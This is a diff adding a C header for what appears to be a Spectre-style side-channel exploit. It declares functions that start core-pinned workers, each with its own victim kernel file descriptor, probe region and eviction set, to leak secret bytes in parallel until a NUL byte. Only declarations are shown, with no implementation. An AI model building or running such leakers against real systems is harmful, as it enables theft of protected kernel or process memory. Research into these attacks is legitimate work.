@@ -0,0 +1,54 @@
+#ifndef PARALLEL_LEAK
+#define PARALLEL_LEAK
+#include <stddef.h>
+#include <stdbool.h>
+#include "spectre_probe.h"
+#include "spectre_decision.h"
+
+#define PARALLEL_MAX_WORKERS 16
+
+/*
+ * Which cores to leak on. num_workers == 0 means leak sequentially on the current core.
+*/
+typedef struct
+{
+    size_t num_workers;
+    int cores[PARALLEL_MAX_WORKERS];
+} ParallelConfig;
+
+// Filled in from the command line by main
+extern ParallelConfig parallel_config;
+
+/*
+ * parse_core_list
+ * parses a comma separated core list such as "0,1,2,3"
+*/
+bool parse_core_list(const char* list, ParallelConfig* out);
+
+// Workers set up by start_parallel_leak, reused for every leak_secret_parallel
+typedef struct ParallelLeaker ParallelLeaker;
+
+/*
+ * start_parallel_leak
+ * Starts one worker per core, each pinned to its core with its own victim file
+ * descriptor, probe region and eviction buffer, and returns once all of them are
+ * set up. That setup is paid once, not on every leak.
+ *
+ * probe is used as a template: kernel_fd, shared_memory and eviction_set are
+ * replaced by per-worker copies (eviction sets are rebuilt for the same page offset).
+*/
+ParallelLeaker* start_parallel_leak(const ProbeConfig* probe, const ParallelConfig* parallel);
+
+/*
+ * leak_secret_parallel
+ * Leaks with the workers of leaker in parallel. Workers take secret offsets from a
+ * shared lock-free counter and stop at the first NUL byte.
+ *
+ * Returns the number of bytes leaked into leaked, including the NUL terminator if found.
+*/
+size_t leak_secret_parallel(ParallelLeaker* leaker, const DecisionConfig* decision, char* leaked, size_t max_len);
+
+// Stops the workers and frees everything they set up
+void stop_parallel_leak(ParallelLeaker* leaker);
+
+#endif